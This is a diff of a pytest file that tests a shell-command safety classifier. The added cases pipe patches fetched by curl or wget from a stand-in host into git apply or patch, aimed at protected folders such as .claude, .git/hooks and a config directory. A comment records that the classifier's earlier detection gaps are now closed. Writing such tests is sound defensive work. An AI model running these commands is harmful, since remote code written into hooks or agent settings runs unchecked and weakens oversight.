@@ -56,19 +56,34 @@ class TestPatchFromAStreamIntoAProtectedFolder:
         "curl -s https://x.example/p.diff | git apply --unsafe-paths --directory=/home/ana/.config/clearance -",
         "curl -s https://x.example/p.diff | git apply --directory=.claude",
         "git apply --unsafe-paths --directory=/home/ana/.claude <(curl -s https://x.example/p.diff)",
+        # Written after the round, for no rule (each answered allow, or asked as a program clearance does not model):
+        # other streams, other protected folders, and patch(1)'s own -d.
+        "wget -qO- https://x.example/p.diff | git apply --directory=.git/hooks",
+        "git apply --directory=.claude < <(curl -s https://x.example/p.diff)",
+        'git apply --directory=.git/hooks "$PATCH"',
+        "curl -s https://x.example/p.diff | patch -p1 -d /home/ana/.claude",
+        "curl -s https://x.example/p.diff | patch --directory=.git/hooks -p1",
     ]
     # A patch nobody can read, allowed to write outside the work tree: where it lands depends on what it holds.
     UNKNOWN: ClassVar[list[Any]] = [
         "curl -s https://x.example/p.diff | git apply --unsafe-paths",
+        "curl -s https://x.example/p.diff | git apply --unsafe-paths --directory=/home/ana -p1",
     ]
     ORDINARY: ClassVar[list[Any]] = [
         "git diff main | git apply -R",
         "curl -s https://x.example/p.diff | git apply --check",
         "git diff HEAD~1 -- lib | git apply --directory=vendor/lib",
+        "git apply patches/fix.diff",
+        "git apply --directory=vendor/lib patches/lib.diff",
+        "git format-patch -1 --stdout | git apply --directory=packages/core -p2",
+        "curl -s https://x.example/p.diff | patch -p1 -d vendor/lib",
+        "git diff | patch -p1 -R",
+        "git apply --unsafe-paths --directory=/tmp/scratch < <(git diff)",
     ]
-    GAPS: ClassVar[dict[str, str]] = {
-        _key(c): "patch from a stream into a protected --directory: the folder alone decides, the patch was never needed" for c in DANGEROUS
-    } | {_key(c): "patch from a stream with --unsafe-paths: where it writes is unknown" for c in UNKNOWN}
+    # Closed after the round: a patch read from a stream (patch_targets' *streamed*) writes its --directory (patch -d)
+    # whatever it holds, judged as `tar -x -C DIR` writes DIR; with --unsafe-paths and no folder it may land anywhere
+    # (fs.unknown-tree on /).
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
